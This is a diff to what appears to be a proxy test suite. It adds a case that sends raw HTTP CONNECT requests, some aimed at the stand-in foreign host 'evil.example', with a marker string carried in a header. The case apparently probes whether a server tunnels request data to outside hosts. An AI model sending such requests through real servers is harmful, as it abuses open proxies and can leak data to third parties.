@@ -240,6 +240,13 @@ def CONNECT(name, inside, port=443):
     return tls(dial(V4), name, send=text) if inside else plain(dial(V4, port), text)
 
 
+@each(endpoint_port=(V4, 443, NAME), another_port=(V6, 8443, NAME), to_a_foreign_host=(V4, 443, "evil.example"),
+      to_a_foreign_host_at_another_port=(V4, 8443, "evil.example"))
+def CONNECT_with_a_message(name, address, port, host):
+    """What stands in the head of a CONNECT request reaches whoever answers it."""
+    return plain(dial(address, port), f"CONNECT {host}:443 HTTP/1.1\r\nhost: {host}:443\r\nx-note: <{name}> {CARD}\r\n\r\n".encode())
+
+
 @attempt
 def HTTP_2_without_TLS(name):
     return plain(dial(V4, 8443), b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + request(name))
